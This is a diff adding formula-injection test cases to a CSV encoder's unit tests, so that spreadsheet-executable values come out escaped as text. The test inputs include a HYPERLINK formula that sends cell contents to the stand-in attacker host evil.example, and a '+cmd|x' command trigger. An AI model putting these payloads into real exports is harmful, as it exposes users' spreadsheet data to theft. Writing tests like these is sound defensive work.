@@ -16,6 +16,15 @@ describe('CSV (RFC 4180)', () => {
     ['two\nlines', '"two\nlines"'],
     [' padded', '" padded"'],
     [['a', 'b'], 'a;b'],
+    // Formula injection (found by an audit): text a spreadsheet would run is shown as text.
+    ['=HYPERLINK("https://evil.example/?d="&A2,"x")', '"\'=HYPERLINK(""https://evil.example/?d=""&A2,""x"")"'],
+    ['+cmd|x', "'+cmd|x"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\tx', "'\tx"],
+    [['=a', 'b'], "'=a;b"],
+    [-5, '-5'],
+    ['a=b', 'a=b'],
   ])('field %j → %j', (value, expected) => {
     expect(csvField(value)).toBe(expected);
   });
